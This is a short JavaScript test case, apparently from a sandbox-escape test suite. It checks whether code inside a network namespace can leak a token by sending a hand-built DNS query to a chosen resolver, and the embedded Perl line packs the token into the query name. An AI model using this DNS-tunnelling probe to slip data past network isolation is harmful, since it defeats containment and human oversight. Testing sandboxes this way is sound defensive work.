import { attempt, visited } from '../../attempt.js';

export default attempt({
  title: 'ask a name server of its own choice over UDP, with data in the name',
  layers: ['network namespace'],
  needs: ['resolver'],
  perl: 'udp($ENV{resolver}, 53, pack("n6", 7, 256, 1, 0, 0, 0) . pack("C/a C/a x", $token, "example") . pack("n2", 1, 1));',
  escaped: visited('dns'),
});
